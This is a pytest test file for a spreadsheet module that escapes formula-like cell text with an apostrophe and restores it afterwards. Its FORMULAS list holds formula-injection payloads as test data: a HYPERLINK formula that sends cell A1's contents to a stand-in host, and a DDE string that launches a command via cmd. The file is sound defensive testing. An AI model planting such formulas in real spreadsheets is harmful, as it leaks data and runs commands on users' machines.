"""Spreadsheet cells: what people wrote is never run as a formula, and can be read back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheets import neutralise, restore

FORMULAS = [
    '=HYPERLINK("http://x/"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "-",
]
PLAIN = ["", "a=1", "Well said.", "-5", "+5", "-0.25", "-1e-05", ".5", "'tis", "SIG-BAK-OVRL", '{"a": "=1"}', " =1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert neutralise(text) == text


@given(st.one_of(st.text(max_size=6), st.text(alphabet="'=+-@\t\r\n1.e", max_size=6)))
def test_everything_can_be_read_back(text: str) -> None:
    assert restore(neutralise(text)) == text
